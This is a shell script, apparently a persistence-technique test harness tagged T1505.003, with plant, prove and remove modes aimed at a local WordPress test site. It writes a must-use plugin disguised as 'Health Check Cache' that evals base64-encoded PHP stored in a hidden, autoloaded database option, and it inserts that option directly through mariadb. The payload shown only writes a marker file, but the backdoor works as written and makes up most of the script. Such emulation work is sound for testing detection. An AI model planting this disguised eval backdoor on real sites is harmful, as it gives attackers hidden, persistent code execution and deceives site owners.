#!/bin/sh
# T1505.003 (quiet): A hidden option holds code that a small mu-plugin evaluates
M=/var/tmp/luytre-foothold N=55-wordpress-option
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
w() { mkdir -p "${1%/*}"; cat >"$1"; }
page() { python3 - "$@" <<'END'
import http.client, ssl, sys
for made in (lambda: http.client.HTTPSConnection("127.0.0.1", context=ssl._create_unverified_context(), timeout=20), lambda: http.client.HTTPConnection("127.0.0.1", timeout=20)):
    for host in ("antruc.test", "bennua.test"):
        try:
            c = made(); c.request("GET", sys.argv[1], headers={"Host": host, "X-Lt": "1"}); print(c.getresponse().read().decode("utf-8", "replace"))
        except (OSError, http.client.HTTPException) as error:
            print(error)
END
}
wpdb() { mariadb -N antruc_wp -e "$1"; }
plant() {
  w /var/www/antruc.test/wp-content/mu-plugins/health-check-cache.php <<'E'
<?php
/* Plugin Name: Health Check Cache */
add_action('init', function () { $o = get_option('_site_health_cache'); if ($o) { eval(base64_decode($o)); } });
E
  chown -R www-data: /var/www/antruc.test/wp-content/mu-plugins
  wpdb "INSERT INTO $(wpdb 'show tables' | grep -m1 'options$') (option_name, option_value, autoload) VALUES ('_site_health_cache', '$(printf "file_put_contents('%s','ran');" /var/tmp/luytre-foothold/55-wordpress-option | base64 -w0)', 'yes')"
}
prove() {
  rm -f "$M/$N"
  page /index.php >/dev/null; seen
}
remove() {
  wpdb "DELETE FROM $(wpdb 'show tables' | grep -m1 'options$') WHERE option_name='_site_health_cache'"; rm -f /var/www/antruc.test/wp-content/mu-plugins/health-check-cache.php; rmdir /var/www/antruc.test/wp-content/mu-plugins 2>/dev/null
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
